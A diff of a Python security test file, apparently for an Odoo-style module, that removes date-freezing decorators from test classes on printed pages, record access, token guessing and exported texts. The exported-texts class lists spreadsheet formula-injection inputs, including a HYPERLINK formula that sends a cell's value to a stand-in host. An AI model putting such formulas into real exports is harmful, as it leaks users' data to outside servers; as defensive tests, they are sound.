@@ -84,7 +84,6 @@ class TestPrintedHtml(TransactionCase):
             self.assertNotRegex(found.get("style", ""), r"url\((?!/web/static/|/?\)|data:image)")
 
 
-@freeze_time("2026-11-24 15:00:00")
 class TestPrintedPages(HttpCase, SigCommon):
     """A draft with pictures of other servers: printed by the real engine, it asks them for nothing."""
 
@@ -136,7 +135,6 @@ class TestPrintedPages(HttpCase, SigCommon):
         self.assertFalse(reports.filtered(lambda report: not report.report_name.startswith("sig_pqrs.")))
 
 
-@freeze_time("2026-11-24 15:00:00")
 class TestForeignRecords(PlanCommon):
     """To name a record that one may not read tells nothing of it: in a dialog, in a form, or in a name."""
 
@@ -310,7 +308,6 @@ class TestForeignRecords(PlanCommon):
         self.assertDenied(Handover, stranger, lambda own: own.create(vals).read(["line_ids"]))
 
 
-@freeze_time("2026-11-24 15:00:00")
 class TestGuessedTokens(SigCommon):
     """Nobody learns a link letter by letter, by searching for what begins as it does."""
 
@@ -384,7 +381,6 @@ class TestForgedFigures(ReviewCommon):
                 self.assertNotEqual(made.sudo()[name], review.sudo()._fields[name].convert_to_record(value, made))
 
 
-@freeze_time("2026-11-24 15:00:00")
 class TestForgedPack(EvidenceCommon, HttpCase):
     """An evidence pack opens its own file, and no other: neither the context nor one's own defaults name another."""
 
@@ -413,7 +409,6 @@ class TestForgedPack(EvidenceCommon, HttpCase):
         self.assertEqual(self.make_case().site, "Sede norte")
 
 
-@freeze_time("2026-11-24 15:00:00")
 class TestExportedTexts(HttpCase, SigCommon):
     FORMULAS = ('=HYPERLINK("http://example.com?"&A1;"Ver")', "{=1+1}", "@SUM(1+1)", " =1+1", "external:c:\\x.xls")
 
